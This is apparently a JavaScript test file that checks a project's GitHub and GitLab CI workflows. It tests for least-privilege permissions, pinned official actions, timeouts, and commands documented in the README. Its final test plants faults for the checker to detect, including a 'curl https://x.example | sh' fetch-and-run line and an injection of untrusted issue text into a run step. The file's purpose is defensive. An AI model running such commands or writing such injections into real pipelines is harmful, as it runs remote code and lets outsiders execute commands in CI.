// The ready ways to publish: YAML that a parser reads, that asks for no more than it needs, and calls only what the README has.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import test from 'node:test';
import { parseDocument } from 'yaml';
import { ROOT } from './site.mjs';

const read = (path) => readFileSync(`${ROOT}${path}`, 'utf8');
const README = read('README.md');

/** A file of YAML, which must hold. */
function yaml(text) {
  const document = parseDocument(text, { version: '1.2', uniqueKeys: true });
  assert.deepEqual([...document.errors, ...document.warnings], []);
  return document.toJS();
}

/** What a workflow has that it should not. */
function faults(workflow) {
  const found = [];
  if (JSON.stringify(workflow.permissions) !== '{"contents":"read"}') found.push('it may do more than read');
  for (const [name, job] of Object.entries(workflow.jobs)) {
    for (const [scope, right] of Object.entries(job.permissions ?? {})) {
      if (right === 'write' && !['pages', 'id-token'].includes(scope)) found.push(`${name} may write ${scope}`);
    }
    if (!job['timeout-minutes']) found.push(`${name} may last for ever`);
    for (const step of job.steps) {
      if (step.uses && !/^actions\/[a-z-]+(\/[a-z]+)?@v\d+$/.test(step.uses)) found.push(`${step.uses} is of no version of GitHub's own`);
      if (/\$\{\{.*github\.event/.test(step.run ?? '')) found.push('a stranger’s words are run');
      for (const line of (step.run ?? '').split('\n').filter(Boolean)) if (!isTold(line)) found.push(`the README does not say: ${line}`);
    }
  }
  return found;
}

/** Whether the README has a command, or the system's own do it. */
const isTold = (line) => README.includes(`\`${line}\``) || README.includes(`\n${line}\n`) || /^(apt-get (update|install -y nodejs npm)|cp -r dist public)$/.test(line);

const PUBLISH = read('.github/workflows/publier.yml');

test('GitHub publishes each day, at each change and when asked, with the least of rights', () => {
  const workflow = yaml(PUBLISH);
  assert.deepEqual(faults(workflow), []);
  assert.deepEqual(Object.keys(workflow.on).sort(), ['push', 'schedule', 'workflow_dispatch']);
  assert.match(workflow.on.schedule[0].cron, /^\d+ \d+ \* \* \*$/, 'once a day');
  const { construire, publier } = workflow.jobs;
  const commands = construire.steps.map((step) => step.run ?? step.uses);
  assert.ok(commands.indexOf('cargo xtask check') > commands.indexOf('cargo xtask dist'));
  assert.ok(commands.findIndex((command) => command.startsWith('actions/upload-pages-artifact')) > commands.indexOf('cargo xtask check'), 'nothing is published unseen');
  assert.equal(publier.needs, 'construire');
  assert.deepEqual(publier.permissions, { pages: 'write', 'id-token': 'write' });
});

test('what is proposed is checked, with no right to write', () => {
  const workflow = yaml(read('.github/workflows/verifier.yml'));
  assert.deepEqual(faults(workflow), []);
  assert.deepEqual(workflow.on, { pull_request: null }, 'and never in the name of the project');
  assert.ok(Object.values(workflow.jobs).every((job) => !job.permissions));
});

test('GitLab publishes the same folder', () => {
  const { pages, verifier, workflow, '.construire': build } = yaml(read('.gitlab-ci.yml'));
  assert.ok(workflow.rules.length > 0);
  assert.deepEqual([pages.extends, verifier.extends], ['.construire', '.construire']);
  assert.deepEqual(pages.rules, [{ if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' }], 'what is proposed is not published');
  assert.deepEqual(pages.artifacts.paths, ['public']);
  assert.equal(verifier.artifacts, undefined);
  assert.deepEqual(build.script, ['cargo xtask dist', 'cargo xtask check', 'cp -r dist public']);
  for (const line of [...build.before_script, ...build.script]) assert.ok(isTold(line), line);
});

test('the form asks for a text and an agreement', () => {
  const form = yaml(read('.github/ISSUE_TEMPLATE/offre.yml'));
  for (const key of ['name', 'description', 'body']) assert.ok(form[key], key);
  const fields = form.body.filter(({ type }) => type !== 'markdown');
  assert.equal(new Set(fields.map(({ id }) => id)).size, fields.length);
  for (const { type, id, attributes } of fields) {
    assert.ok(['textarea', 'input', 'checkboxes', 'dropdown'].includes(type), type);
    assert.ok(id && attributes.label, 'each field has a name');
  }
  const [text] = fields;
  assert.equal(text.validations.required, true);
  assert.ok(fields.at(-1).attributes.options.every(({ required }) => required));
  yaml(read('.github/ISSUE_TEMPLATE/config.yml'));
});

test('what is planted in a workflow is seen', () => {
  for (const [right, wrong] of [
    ['contents: read', 'contents: write'],
    ['actions/checkout@v6', 'actions/checkout@main'],
    ['actions/cache@v5', 'someone/cache@v5'],
    ['pages: write', 'packages: write'],
    ['cargo xtask check', 'curl https://x.example | sh'],
    ['cargo xtask check', 'echo ${{ github.event.issue.title }}'],
    ['    timeout-minutes: 45\n', ''],
  ]) {
    assert.notEqual(PUBLISH.replace(right, wrong), PUBLISH, right);
    assert.notDeepEqual(faults(yaml(PUBLISH.replace(right, wrong))), [], wrong);
  }
  assert.throws(() => yaml('a: 1\na: 2\n'));
});
